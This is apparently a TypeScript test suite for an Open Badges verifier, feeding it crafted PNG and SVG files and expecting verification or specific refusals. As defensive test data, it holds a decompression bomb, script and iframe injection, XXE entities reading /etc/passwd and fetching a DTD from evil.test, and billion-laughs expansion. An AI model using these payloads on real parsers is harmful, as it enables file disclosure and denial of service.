import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { concat, utf8 } from '../../src/formats/bytes.ts';
import { createChunk, PNG_SIGNATURE, type PngChunk } from '../../src/formats/png-chunks.ts';
import { badge, jwt, signed } from '../usecases/other-issuer.ts';
import { type Case, type Expectation, refused, verified } from './case.ts';
import { ISSUER_ONLINE } from './json-cases.ts';

const header = createChunk('IHDR', Uint8Array.of(0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0));
const pixels = createChunk('IDAT', new Uint8Array(deflateSync(Uint8Array.of(0, 0))));
const end = createChunk('IEND', new Uint8Array());
const KEYWORD = 'openbadgecredential';
const MIB = 1024 * 1024;

function png(chunks: readonly PngChunk[], first = header): Uint8Array {
  return concat(PNG_SIGNATURE, ...[first, ...chunks, pixels, end].map(({ bytes }) => bytes));
}

const itxt = (text: string | Uint8Array, start = `${KEYWORD}\0\0\0\0\0`) =>
  createChunk('iTXt', concat(utf8(start), typeof text === 'string' ? utf8(text) : text));

const deflated = (bytes: Uint8Array) => new Uint8Array(deflateSync(bytes));

/** Rows 81 to 98: pictures that carry a badge, or mean to do harm. */
export async function fileCases(): Promise<Case[]> {
  const text = JSON.stringify(await signed(badge()));
  return [...pngCases(text), ...pngFormCases(text), ...svgCases(text), ...xmlCases()];
}

const asPng = (row: string, what: string, body: Uint8Array, expect: Expectation): Case => ({
  row,
  what,
  body,
  type: 'image/png',
  internet: ISSUER_ONLINE,
  expect,
});

function pngCases(text: string): Case[] {
  const flagged = (bytes: Uint8Array) => itxt(bytes, `${KEYWORD}\0\u0001\0\0\0`);
  const wide = createChunk(
    'IHDR',
    Uint8Array.of(0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30, 8, 0, 0, 0, 0),
  );
  return [
    asPng('81', 'no badge in it', png([]), refused(422, 'no_credential_in_image')),
    asPng('82', 'two badges', png([itxt(text), itxt(text)]), refused(422, 'multiple_credentials')),
    // DESIGN section 6: read, under a cap.
    asPng('83', 'a compressed badge', png([flagged(deflated(utf8(text)))]), verified()),
    asPng('83', '500 MB compressed', png([flagged(bomb(500))]), refused(400, 'png_malformed')),
    asPng(
      '84',
      'the keyword in tEXt',
      png([createChunk('tEXt', utf8(`${KEYWORD}\0${text}`))]),
      refused(422, 'no_credential_in_image'),
    ),
    asPng('88', '30,000 by 30,000 pixels', png([itxt(text)], wide), verified()),
    asPng(
      '89',
      'a page after the end',
      concat(png([itxt(text)]), utf8('<html>')),
      verified('trailing_data'),
    ),
    asPng('own', 'a token in it', png([itxt(jwt(badge()))]), verified()),
  ];
}

/** What unpacks to so many MB of zeros, and has no end: whoever reads that far has read too much. */
function bomb(megabytes: number): Uint8Array {
  const options = { finishFlush: constants.Z_FULL_FLUSH };
  const block = new Uint8Array(deflateRawSync(new Uint8Array(MIB), options));
  return concat(Uint8Array.of(0x78, 0x9c), ...Array<Uint8Array>(megabytes).fill(block));
}

function pngFormCases(text: string): Case[] {
  const good = png([itxt(text)]);
  const withLength = (length: number) => {
    const copy = good.slice();
    new DataView(copy.buffer).setUint32(33, length);
    return copy;
  };
  const damaged = good.slice();
  damaged[80] = (damaged[80] ?? 0) ^ 1;
  const empty = createChunk('tEXt', utf8('a\0b'));
  return [
    ...[0x7fffffff, 0xffffffff, good.length * 2].map((length) =>
      asPng('85', `a chunk of ${length} bytes`, withLength(length), refused(400, 'png_malformed')),
    ),
    asPng('86', 'a wrong checksum', damaged, refused(400, 'png_crc')),
    asPng(
      '87',
      '100,000 chunks',
      png(Array.from({ length: 100_000 }, () => empty)),
      refused(400, 'png_too_many_chunks'),
    ),
    asPng(
      '89',
      'a GIF under another name',
      utf8('GIF89a\u0001\0\u0001\0'),
      refused(415, 'unsupported_media'),
    ),
    asPng('89', 'half a signature', PNG_SIGNATURE.slice(0, 6), refused(400, 'png_malformed')),
    asPng(
      '90',
      'text that is not UTF-8',
      png([itxt(Uint8Array.of(0xff, 0xfe))]),
      refused(400, 'png_malformed'),
    ),
    asPng(
      '90',
      'no separators',
      png([createChunk('iTXt', utf8(KEYWORD))]),
      refused(400, 'png_malformed'),
    ),
    asPng(
      '90',
      'a keyword of 80 bytes',
      png([createChunk('iTXt', utf8(`${'k'.repeat(80)}\0\0\0\0\0x`))]),
      refused(400, 'png_malformed'),
    ),
  ];
}

const V3 = 'https://purl.imsglobal.org/ob/v3p0';

const svg = (inside: string, namespace = V3) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="${namespace}" width="9" height="9">${inside}</svg>`;

const asSvg = (
  row: string,
  what: string,
  body: string | Uint8Array,
  expect: Expectation,
): Case => ({
  row,
  what,
  body,
  type: 'image/svg+xml',
  internet: ISSUER_ONLINE,
  expect,
});

function svgCases(text: string): Case[] {
  const credential = `<openbadges:credential><![CDATA[${text}]]></openbadges:credential>`;
  const hostile =
    '<script>alert(1)</script><foreignObject><iframe src="https://evil.test"/></foreignObject><image href="http://evil.test/a"/>';
  const silent = { silent: ['evil.test'] };
  return [
    asSvg('91', 'a script beside a good badge', svg(credential + hostile), {
      ...verified(),
      ...silent,
    }),
    asSvg(
      '91',
      'a token in its attribute',
      svg(`<openbadges:credential verify="${jwt(badge())}"/>`),
      verified(),
    ),
    asSvg(
      '92',
      'another namespace',
      svg(credential, 'https://evil.test/ob'),
      refused(422, 'no_credential_in_image'),
    ),
    asSvg('93', 'two badges', svg(credential + credential), refused(422, 'multiple_credentials')),
    asSvg(
      '93',
      'a badge in a comment',
      svg(`<!--${credential.replace(/--/g, '')}-->`),
      refused(422, 'no_credential_in_image'),
    ),
    asSvg(
      '93',
      'no closing tag',
      '<svg xmlns="http://www.w3.org/2000/svg"><g>',
      refused(400, 'svg_malformed'),
    ),
    asSvg('95', 'UTF-16', new Uint8Array(Buffer.from(`\uFEFF${svg(credential)}`, 'utf16le')), {
      status: 400,
    }),
    asSvg('95', 'UTF-16 that says UTF-8', new Uint8Array(Buffer.from(svg(credential), 'utf16le')), {
      status: 400,
    }),
  ];
}

function xmlCases(): Case[] {
  const levels = Array.from(
    { length: 10 },
    (_, level) => `<!ENTITY l${level} "${level === 0 ? 'lol' : `&l${level - 1};`.repeat(10)}">`,
  );
  const doctype = refused(422, 'xml_doctype_forbidden');
  const silent = { silent: ['evil.test'] };
  return [
    asSvg('96', 'a billion laughs', `<!DOCTYPE svg [${levels.join('')}]>${svg('&l9;')}`, doctype),
    asSvg(
      '97',
      'an entity of a file',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('&x;')}`,
      doctype,
    ),
    asSvg(
      '97',
      'a DTD outside',
      `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.test/x.dtd"> %x;]>${svg('')}`,
      { ...doctype, ...silent },
    ),
    asSvg(
      '98',
      'one large entity a thousand times',
      `<!DOCTYPE svg [<!ENTITY x "${'a'.repeat(1_000_000)}">]>${svg('&x;'.repeat(1000))}`,
      doctype,
    ),
    asSvg(
      '98',
      'a hundred thousand references',
      svg('&#65;'.repeat(100_000)),
      refused(422, 'no_credential_in_image'),
    ),
    asSvg('own', '100,000 elements, one in the other', svg('<g>'.repeat(100_000)), { status: 400 }),
  ];
}
